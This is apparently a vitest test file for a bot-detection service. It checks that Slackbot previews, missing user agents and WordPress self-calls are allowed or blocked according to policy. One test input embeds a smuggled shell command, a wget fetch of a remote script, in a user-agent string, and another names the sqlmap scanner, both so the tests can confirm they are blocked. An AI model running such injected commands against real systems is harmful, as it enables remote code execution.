import { describe, expect, it } from "vitest";
import { documentOf, openContract } from "@/test/contract";
import { checkOf, DECIDERS, decide, decideWithDetail } from "@/test/decisions";

const server = await openContract();
const ip = "73.2.3.4";
const SLACK = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)";
const BLOCKED = {
  blocker: "BLOCK BY SPIDER CRAWLER",
  blockerv2: "[Disallow] - Spider Crawler",
  shorterlink: "BLOCK BY SPIDER CRAWLER",
} as const;

describe.each(DECIDERS)("declared programs, %s", (endpoint) => {
  const key = server.account({ document: documentOf({ programs: { allow: ["preview"] } }) });

  it("are let in by the policy's kinds, and the detail names them", async () => {
    const { body, detail } = await decideWithDetail(server, endpoint, key, { ip, ua: SLACK });
    expect(body).toMatchObject({ isBot: 0, blockAccess: 0, detectActivity: "Visitor" });
    expect(checkOf(detail, "spiderCrawler")).toMatchObject({
      outcome: "pass",
      evidence: [{ kind: "preview", name: "Slackbot" }],
    });
    expect(detail.bot).toEqual({
      ...{ name: "Slackbot", operator: "Slack", category: "preview" },
      ...{ verified: null, spoofed: false },
    });
  });

  it.each([
    ["of another kind", "curl/8.16.0"],
    ["that is also a scanner", `${SLACK} sqlmap/1.9`],
    ["that runs code", `${SLACK}; wget http://203.0.113.7/a.sh`],
    ["that claims a search engine", `${SLACK} Googlebot/2.1`],
    ["of another name beside it", `ExampleBot/1.0 (like ${SLACK})`],
  ])("are kept out %s", async (_, ua) => {
    expect(await decide(server, endpoint, key, { ip, ua })).toMatchObject({
      blockAccess: 1,
      detectActivity: BLOCKED[endpoint],
    });
  });

  it("are kept out by every other check", async () => {
    const listed = { ip: "45.155.205.1", ua: SLACK };
    expect(await decide(server, endpoint, key, listed)).toMatchObject({ blockAccess: 1 });
  });

  it("are kept out by a policy that names no kinds", async () => {
    const older = server.account({ document: documentOf() });
    expect(await decide(server, endpoint, older, { ip, ua: SLACK })).toMatchObject({
      isBot: 1,
      blockAccess: 1,
      detectActivity: BLOCKED[endpoint],
    });
  });
});

describe.each(DECIDERS)("a missing user agent, %s", (endpoint) => {
  it.each([{ ip }, { ip, ua: "" }])(
    "%o is let in until the customer says otherwise",
    async (visitor) => {
      const plain = server.account({ document: documentOf() });
      expect(await decide(server, endpoint, plain, visitor)).toMatchObject({ blockAccess: 0 });
      const checks = { missingAgent: "block" };
      const strict = server.account({ document: documentOf({ checks }) });
      expect(await decide(server, endpoint, strict, visitor)).toMatchObject({
        isBot: 1,
        blockAccess: 1,
        detectActivity: BLOCKED[endpoint],
      });
      const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0";
      expect(await decide(server, endpoint, strict, { ip, ua })).toMatchObject({ blockAccess: 0 });
    },
  );
});

/** Asked without a proxy, so that the connection says who asks. */
const direct = await openContract({ trustedProxies: [] });

describe.each(DECIDERS)("a site's own software, %s", (endpoint) => {
  const policy = { bots: { categories: { webhook: "allowVerified" } } };
  const key = direct.account({ document: documentOf(policy) });
  const ua = "WordPress/6.8.3; https://blog.example";

  it("is let in from the address that makes the call", async () => {
    const { body, detail } = await decideWithDetail(direct, endpoint, key, { ip: "127.0.0.1", ua });
    expect(body).toMatchObject({ blockAccess: 0 });
    expect(detail.bot).toMatchObject({ name: "WordPress", verified: "site", spoofed: false });
  });

  it("is another site's from elsewhere, and no spoof", async () => {
    const { body, detail } = await decideWithDetail(direct, endpoint, key, { ip, ua });
    expect(body).toMatchObject({ blockAccess: 1, detectActivity: BLOCKED[endpoint] });
    expect(detail.bot).toMatchObject({ name: "WordPress", verified: null, spoofed: false });
  });
});
